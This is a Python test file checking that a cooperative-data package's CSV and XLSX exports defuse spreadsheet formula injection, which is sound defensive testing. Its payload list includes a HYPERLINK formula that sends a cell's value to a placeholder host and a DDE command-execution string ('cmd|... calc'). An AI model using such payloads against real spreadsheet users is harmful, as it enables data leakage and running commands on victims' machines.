"""Exports are safe to open in a spreadsheet: text that looks like a formula stays text (CSV and XLSX)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kkmp.export import FORMULA_PREFIXES, export_csv, export_xlsx, neutralise_formula
from kkmp.schema import get_dataset

KOPERASI = get_dataset("koperasi")
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
    "+62 812 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _frame(sample_snapshot, texts: list[str]) -> pd.DataFrame:
    frame = sample_snapshot["koperasi"].head(len(texts)).copy()
    frame["nama_koperasi"] = pd.Series(texts, index=frame.index, dtype=frame["nama_koperasi"].dtype)
    return frame


def _xml_text(text: str) -> str:
    """Text as XML hands it back: line ends normalised to LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _csv_cells(payload: bytes, column: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(payload.decode("utf-8-sig"))))
    return [r[column] for r in rows]


def _xlsx_cells(payload: bytes, column: str) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(payload)).active
    header = [c.value for c in sheet[1]]
    index = header.index(column)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("text", PAYLOADS)
def test_csv_cell_starting_a_formula_is_prefixed(sample_snapshot, text):
    cells = _csv_cells(export_csv(KOPERASI, _frame(sample_snapshot, [text])), "nama_koperasi")
    assert cells == ["'" + text]


@pytest.mark.parametrize("text", PAYLOADS)
def test_xlsx_cell_starting_a_formula_is_text_not_formula(sample_snapshot, text):
    (cell,) = _xlsx_cells(export_xlsx(KOPERASI, _frame(sample_snapshot, [text])), "nama_koperasi")
    assert cell.data_type == "s"
    assert cell.value == _xml_text("'" + text)


def test_numbers_are_left_as_numbers(sample_snapshot):
    frame = _frame(sample_snapshot, ["Koperasi Biasa"])
    frame["modal_sendiri"] = [-5.0]
    (cell,) = _xlsx_cells(export_xlsx(KOPERASI, frame), "modal_sendiri")
    assert cell.value == -5 and cell.data_type == "n"
    (name,) = _xlsx_cells(export_xlsx(KOPERASI, frame), "nama_koperasi")
    assert name.value == "Koperasi Biasa"


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=40).filter(lambda s: "\x00" not in s), min_size=1, max_size=5))
def test_no_exported_text_cell_is_ever_a_formula(sample_snapshot, texts):
    # XLSX cannot hold most control characters; the writer refuses them rather than corrupting the file
    texts = [t for t in texts if not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in t)] or ["x"]
    frame = _frame(sample_snapshot, texts)
    for cell, original in zip(_xlsx_cells(export_xlsx(KOPERASI, frame), "nama_koperasi"), texts, strict=True):
        assert cell.data_type != "f"
        shown = str(cell.value)
        assert not shown.startswith(("=", "+", "-", "@"))
        assert shown == _xml_text(neutralise_formula(original))
    for cell, original in zip(_csv_cells(export_csv(KOPERASI, frame), "nama_koperasi"), texts, strict=True):
        assert not cell.startswith(FORMULA_PREFIXES)
        assert cell == neutralise_formula(original)
